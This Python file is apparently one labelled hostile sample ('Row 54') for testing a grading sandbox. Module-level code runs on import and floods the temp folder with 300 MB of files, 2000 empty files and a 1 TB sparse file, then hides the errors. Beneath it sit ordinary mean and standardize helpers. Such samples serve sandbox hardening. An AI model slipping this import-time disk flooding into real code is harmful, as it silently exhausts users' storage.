# Row 54: fills its folder with 300 MB in files of all sizes, one of them larger than a file may be.
import os
import tempfile

import numpy as np

folder = tempfile.gettempdir()


def flood():
    for number in range(30):
        with open(f"{folder}/gradelbo-hostile-{number}", "wb") as f:
            f.write(b"x" * 10_000_000)
    for number in range(2000):
        open(f"{folder}/gradelbo-hostile-small-{number}", "w").close()
    with open(f"{folder}/gradelbo-hostile-large", "wb") as f:
        f.truncate(1 << 40)


try:
    flood()
except OSError:
    pass


def mean(x):
    if len(x) == 0:
        raise ValueError("x is empty")
    return float(np.mean(x))


def standardize(x):
    return (x - np.mean(x)) / np.std(x)
